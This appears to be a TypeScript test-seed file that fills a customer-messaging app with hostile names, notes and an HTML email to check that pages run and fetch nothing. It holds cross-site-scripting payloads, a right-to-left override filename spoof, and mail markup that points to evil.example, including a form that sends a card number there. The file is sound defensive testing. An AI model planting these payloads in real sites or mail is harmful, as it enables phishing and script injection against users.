import type { Commlog } from "./commlog";

// A store of what people and machines really send, and of what those send who mean harm. Pages must keep their layout, run
// nothing and fetch nothing.

const LONG = "Maximiliana-Philippine ".repeat(9);

/** Names have at most 200 letters. */
export const NAMES = {
  rightToLeft: "\u202Bفاطمة بنت محمد\u202C الزهراء",
  override: "Invoice \u202Egpj.exe",
  long: LONG.slice(0, 200),
  unbroken: "W".repeat(200),
  markup: '<img src=x onerror="document.title=`run`"><b>Bold</b>',
  emoji: "👩‍👩‍👧‍👦 Zoë 🏳️‍🌈",
  spaces: "\u00a0\u2003 Only spaces before",
} as const;

/** A mail that tries everything: script, network, styles over the page, forms, frames. */
const MAIL = `<html><head><style>body{background:#fee} @import url(https://evil.example/a.css);
  .x{position:fixed;inset:0;background:url(https://evil.example/b.png)}</style>
  <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
  <body onload="document.title='run'"><h1 style="color:#c00;font-family:Georgia">Hostile</h1>
  <script>document.title="run"</script><img src="https://evil.example/pixel.gif" alt="Logo">
  <svg onload="document.title='run'"></svg><iframe src="https://evil.example/"></iframe>
  <form action="https://evil.example/"><input name="card"><button>Pay</button></form>
  <a href="javascript:document.title='run'">Click</a><div class="x">Over everything</div>
  <table width="2000"><tr><td>Wide</td></tr></table></body></html>`;

interface Created {
  registerCustomer: { customerId: string };
}

/** Registers the customers, each with a message from them and a mail to them; gives their ids by the names' keys. */
export async function seedHostile(commlog: Pick<Commlog, "api">): Promise<Record<keyof typeof NAMES, string>> {
  await commlog.api(
    `mutation ($input: TemplateInput!) { saveTemplate(input: $input) { refusal { message } }
       publishTemplate(code: "hostile") { refusal { message } } }`,
    {
      input: {
        code: "hostile",
        title: NAMES.markup,
        class: "TRANSACTIONAL",
        defaultLocale: "en",
        contents: [
          {
            locale: "en",
            texts: { email: { subject: "{{ customer.name }}", markup: "HTML", source: MAIL, text: "Hostile" } },
          },
        ],
      },
    },
  );
  await commlog.api(`mutation ($input: CannedReplyInput!) { saveCannedReply(input: $input) { refusal { message } } }`, {
    input: {
      code: "hello",
      title: NAMES.markup,
      bodies: [{ locale: "en", body: "Dear {{customer.name|friend}}, thank you. {{agent.name|We}} will see." }],
    },
  });
  const ids: Partial<Record<keyof typeof NAMES, string>> = {};
  for (const [index, [key, name]] of Object.entries(NAMES).entries()) {
    const email = `hostile-${key}-${"x".repeat(index * 8)}@example.com`.toLowerCase();
    const created = (await commlog.api(
      `mutation ($input: CustomerInput!) { registerCustomer(input: $input) { customerId customer { id } refusal { message } } }`,
      {
        input: {
          name,
          externalId: `<script>${key}</script>`,
          tags: [NAMES.markup.slice(0, 40), "وسم", "t".repeat(60)],
          territory: NAMES.override,
          owner: NAMES.rightToLeft,
          locale: "ar",
          addresses: [{ kind: "EMAIL", address: email, label: "<i>work</i>" }],
        },
      },
    )) as Created;
    const customerId = created.registerCustomer.customerId;
    ids[key as keyof typeof NAMES] = customerId;
    await commlog.api(
      `mutation ($in: ReceiveMessageInput!, $out: SendMessageInput!, $id: ID!, $note: String!) {
         receiveMessage(input: $in) { conversation { id } }
         sendMessage(input: $out) { message { id } }
         addNote(customerId: $id, text: $note) { entry { id } } }`,
      {
        id: customerId,
        note: `${NAMES.markup}\n${NAMES.unbroken}`,
        in: {
          channel: "EMAIL",
          customerId,
          from: email,
          subject: name,
          body: `${name}\n\n${NAMES.markup}\n${NAMES.unbroken}`,
        },
        out: { channel: "EMAIL", customerId, class: "TRANSACTIONAL", topic: "service", template: { code: "hostile" } },
      },
    );
  }
  return ids as Record<keyof typeof NAMES, string>;
}
